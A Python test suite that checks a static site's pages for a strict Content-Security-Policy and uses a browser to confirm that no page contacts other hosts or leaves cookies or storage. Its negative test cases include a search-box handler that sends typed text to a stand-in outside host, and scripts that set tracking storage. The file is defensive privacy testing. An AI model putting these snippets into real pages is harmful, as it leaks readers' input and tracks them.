"""Readers stay unobserved: no page asks another host for anything or keeps anything, and none could."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin

import pytest
from hosts import Home, assert_nothing, kinds, serving
from lxml import html
from playwright.sync_api import Browser, Page, Route

OWN = {"'none'", "'self'", "'wasm-unsafe-eval'"}
"""The sources that a policy may name: no host, no scheme, nothing inline. WebAssembly is for the search."""
CONNECTS = {
    "stylesheet",
    "icon",
    "preload",
    "modulepreload",
    "prefetch",
    "preconnect",
    "dns-prefetch",
    "manifest",
}
DATA = {"application/ld+json", "application/json"}
LEFT_BEHIND = """async () => [
    ...Object.keys(localStorage),
    ...Object.keys(sessionStorage),
    ...(await indexedDB.databases()).map(it => it.name),
    ...await caches.keys(),
    ...(await navigator.serviceWorker.getRegistrations()).map(it => it.scope),
]"""


def policy_faults(page: html.HtmlElement) -> Iterator[str]:
    """What the page's policy lets happen, though it should not."""
    policies = page.xpath("/html/head/meta[@http-equiv='Content-Security-Policy']")
    if len(policies) != 1:
        yield f"{len(policies)} policies"
        return
    (meta,) = policies
    if meta.xpath("preceding::*[self::link or self::script or self::style or self::base]"):
        yield "the policy comes too late"
    directives = {name: set(sources) for name, *sources in map(str.split, meta.get("content").split(";"))}
    if directives.get("default-src") != {"'none'"}:
        yield "what has no rule of its own is allowed"
    for name in ("base-uri", "form-action"):
        if name not in directives:
            yield f"there is no {name}"
    for name, sources in directives.items():
        yield from (f"{name} allows {source}" for source in sorted(sources - OWN))


def content_faults(page: html.HtmlElement, address: str) -> Iterator[str]:
    """What stands in the page at this address and would break its policy, or gets around it."""
    for script in page.xpath("//script[not(@src)]"):
        if script.get("type") not in DATA:
            yield "an inline script"
    if page.xpath("//style | //@style"):
        yield "an inline style"
    yield from (
        f"an inline {name}"
        for name in sorted({it.attrname for it in page.xpath("//@*[starts-with(name(), 'on')]")})
    )
    links = [link.get("href") for link in page.xpath("//link") if CONNECTS & set(link.get("rel", "").split())]
    host = urljoin(address, "/")
    for link in links + page.xpath("//@src | //object/@data | //form/@action | //a/@ping"):
        if not urljoin(address, link).startswith(host):
            yield f"an address elsewhere: {link}"


def faults(path: Path, address: str) -> list[str]:
    """What a page's file, shown at this address, allows or holds though it should not."""
    page = html.document_fromstring(path.read_bytes(), parser=html.HTMLParser(encoding="utf-8"))
    return [*policy_faults(page), *content_faults(page, address)]


def traces(page: Page, address: str) -> list[str]:
    """What other hosts notice while the page is read and searched, and what stays in the browser."""
    elsewhere: list[str] = []
    host = urljoin(address, "/")

    def stop_at_the_border(route: Route) -> None:
        if route.request.url.startswith(host):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**", stop_at_the_border)
    page.goto(address, wait_until="networkidle")
    for box in page.locator("input[type=search]:visible").all():
        box.fill("arms")
        # The network has been idle before: what the words set off has left once a later request is answered.
        page.evaluate("fetch(location.href).then(answer => answer.text())")
    page.wait_for_load_state("networkidle")
    cookies = [str(cookie.get("name")) for cookie in page.context.cookies()]
    return elsewhere + cookies + list(page.evaluate(LEFT_BEHIND))


def test_no_page_allows_or_holds_what_could_tell_on_its_reader(home: Home) -> None:
    found = {path: faults(home.folder / path, home.address + path) for path in home.pages()}
    assert_nothing(found)


def test_pages_of_every_kind_leave_no_trace(home: Home, browser: Browser) -> None:
    found = {}
    for longest, *_ in kinds(home.folder).values():
        with browser.new_page() as page:
            found[longest] = traces(page, home.address + longest)
    assert_nothing(found)


GOOD = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; base-uri 'none'; form-action 'none'"
PAGE = '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="{}"><title>A</title></head>{}</html>'


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        (PAGE.format(GOOD, '<script src="a.js"></script><a href="https://elsewhere.example/">Out</a>'), None),
        (PAGE.format(GOOD, '<script type="application/ld+json">{}</script>'), None),
        ("<!doctype html><title>A</title>", "0 policies"),
        (
            PAGE.replace("<meta", '<link rel="icon" href="a.svg"><meta').format(GOOD, ""),
            "the policy comes too late",
        ),
        (PAGE.format(GOOD.replace("'none'", "'self'", 1), ""), "what has no rule of its own is allowed"),
        (PAGE.format("default-src 'none'; base-uri 'none'", ""), "there is no form-action"),
        (PAGE.format(f"{GOOD}; style-src 'unsafe-inline'", ""), "style-src allows 'unsafe-inline'"),
        (PAGE.format(f"{GOOD}; img-src https:", ""), "img-src allows https:"),
        (PAGE.format(f"{GOOD}; connect-src elsewhere.example", ""), "connect-src allows elsewhere.example"),
        (PAGE.format(GOOD, "<script>go()</script>"), "an inline script"),
        (PAGE.format(GOOD, '<p style="color: red">'), "an inline style"),
        (PAGE.format(GOOD, "<style>p { color: red }</style>"), "an inline style"),
        (PAGE.format(GOOD, '<p onclick="go()">'), "an inline onclick"),
        (
            PAGE.format(GOOD, '<img src="//elsewhere.example/a.png">'),
            "an address elsewhere: //elsewhere.example/a.png",
        ),
        (
            PAGE.format(GOOD, '<link rel="preconnect" href="https://a.example">'),
            "an address elsewhere: https://a.example",
        ),
    ],
)
def test_a_page_that_allows_or_holds_too_much_is_noticed(
    tmp_path: Path, text: str, fault: str | None
) -> None:
    (tmp_path / "a.html").write_text(text)
    assert faults(tmp_path / "a.html", "https://facts.example/a.html") == ([fault] if fault else [])


@pytest.mark.parametrize(
    ("body", "trace"),
    [
        ("<p>Good", None),
        ("<script src=http://elsewhere.example/a.js></script>", "http://elsewhere.example/a.js"),
        (
            "<input type=search oninput=fetch('http://elsewhere.example?'+value)>",
            "http://elsewhere.example/?arms",
        ),
        ("<script>document.cookie = 'seen=1'</script>", "seen"),
        ("<script>localStorage.seen = 1</script>", "seen"),
        ("<script>sessionStorage.seen = 1</script>", "seen"),
        ("<script>indexedDB.open('seen')</script>", "seen"),
        ("<script>caches.open('seen')</script>", "seen"),
    ],
)
def test_a_page_that_leaves_a_trace_is_noticed(
    tmp_path: Path, browser: Browser, body: str, trace: str | None
) -> None:
    (tmp_path / "a.html").write_text(f"<!doctype html><title>A</title>{body}")
    with serving(tmp_path) as address, browser.new_page() as page:
        assert set(traces(page, f"{address}a.html")) == ({trace} if trace else set())
